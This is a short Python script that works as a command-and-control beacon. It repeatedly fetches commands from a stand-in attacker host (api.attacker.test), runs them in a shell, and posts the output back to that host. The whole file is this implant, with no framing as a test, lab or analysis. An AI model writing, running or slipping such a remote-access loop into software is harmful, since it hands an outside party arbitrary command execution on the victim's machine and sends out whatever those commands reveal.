import json
import subprocess
import time
import urllib.request

C2 = "https://api.attacker.test/v1/tasks"

while True:
    with urllib.request.urlopen(C2, timeout=30) as r:
        task = json.load(r)
    out = subprocess.run(task["cmd"], shell=True, capture_output=True)
    req = urllib.request.Request(C2, data=out.stdout, method="POST")
    urllib.request.urlopen(req)
    time.sleep(30)
